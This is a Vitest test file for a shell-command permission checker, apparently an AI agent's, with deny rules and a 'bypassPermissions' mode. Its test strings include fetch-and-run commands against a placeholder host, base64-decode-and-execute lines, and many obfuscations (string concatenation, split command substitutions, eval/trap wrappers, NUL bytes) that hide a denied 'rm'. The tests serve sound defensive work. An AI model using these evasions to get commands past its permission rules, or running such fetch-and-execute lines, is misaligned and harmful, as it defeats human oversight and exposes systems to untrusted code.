import { describe, expect, it } from "vitest"
import { decideIn, shell } from "../fixture.ts"

/** A file that one part of a text writes and another runs: nobody has seen what is in it. */
const UNSEEN = [
  "base64 -d x > f; sh f",
  "echo eA== | base64 -d > f && bash ./f",
  "curl -o f http://h; bash f",
  "curl http://h > f && chmod +x f && ./f",
  "cp x f; sh f",
  "mv x f && ./f",
  "dd if=x of=f; sh f",
  "sed -i s/a/b/ f; sh f",
  "tr a b < x | tee f; source f",
  "wget -O f h; . ./f",
  "cat x > $PWD/f; python3 f",
  "(base64 -d x > f); (nohup sh f)",
  "mkdir -p d && curl -o d/f http://h && sh d/f",
  "cp x d/ && sh d/x",
  "sort -o f x; sh f",
  "gunzip f.gz; sh f",
  "cd sub && base64 -d x > f && sh f"
]

const SEEN = [
  "chmod +x build.sh && ./build.sh",
  "npm test > out.txt; sh run.sh",
  "touch run.sh; sh run.sh",
  "ls > out.txt; cat out.txt",
  "sh run.sh > out.txt",
  "echo hi > log; node app.js"
]

const setting = { mode: "bypassPermissions", deny: ["Bash(rm *)"] } as const

describe("files that are written and then run", () => {
  it.each(UNSEEN)("%s could be what a rule names", (command) => {
    expect(decideIn(setting, { need: shell(command) })).toMatchObject({ verdict: "ask", reason: { type: "possibleDeny" } })
    expect(decideIn({ mode: "bypassPermissions" }, { need: shell(command) }).verdict).toBe("allow")
  })

  it.each(SEEN)("%s runs nothing that it wrote", (command) => {
    expect(decideIn(setting, { need: shell(command) }).verdict).toBe("allow")
  })

  it("what stands in an expansion that is split over two lines is seen", () => {
    for (const command of [
      'echo "$\\\n(rm x)"',
      "echo $\\\n(rm x)",
      "cat <<E\n$\\\n(rm x)\nE",
      'echo "$(f() { r\\\nm x; }; f)"'
    ]) {
      expect(decideIn(setting, { need: shell(command) }).verdict, JSON.stringify(command)).toBe("deny")
    }
  })

  it.each([
    "sh -c '\"$\\\n(echo rm)\" x'",
    "eval '\"$\\\n(echo rm)\" x'",
    "trap '\"$\\\n(echo rm)\" x' EXIT",
    "bash <<'E'\n\"$\\\n(echo rm)\" x\nE",
    "sh -c 'ls \"x'",
    "python3 -c 'import os; os.system(\"${X-rm} x\")'",
    'python3 -c \'import os; os.system("r" + "m x")\'',
    'node -e \'require("child_process").execSync("r" + "m x")\'',
    "awk 'BEGIN{system(\"z${Y}m x\")}'",
    "sed -n '1e ${X-rm} x' a",
    "perl -e '`$x`'",
    "ruby -e 'puts `$x`'",
    "vim -c '!$x' a",
    "sh -c \"awk 'BEGIN{system(x)}'\"",
    "perl -e 'open(F, \"$x|\")'"
  ])("%s could run what a rule names", (command) => {
    expect(decideIn(setting, { need: shell(command) }).verdict).not.toBe("allow")
  })

  it.each([
    "node -e 'console.log(process.version, `a`)'",
    'python3 -c \'import re, json; print(re.compile("a"), json.load(open("a")), "b!")\'',
    "git commit -m 'fix `x` (and $y'",
    "gh pr create --body 'uses `exec` and (parens'",
    "awk '{print $1}' a",
    "sed 's/a/b/' a",
    "perl -pe 's/a/b/' a",
    "bash -c 'npm test && npm run lint'",
    "cat <<'E' > a.md\nIt's `code` and $(x\nE",
    "python3 - <<'P'\nprint(\"it's\")\nP"
  ])("%s runs nothing unseen", (command) => {
    expect(decideIn(setting, { need: shell(command) }).verdict).toBe("allow")
  })

  it("what a NUL stands before or behind is seen", () => {
    for (const command of ["\0rm x", "rm\0 x", "ls\0; rm x"]) {
      expect(decideIn(setting, { need: shell(command) }).verdict, JSON.stringify(command)).toBe("deny")
    }
  })
})
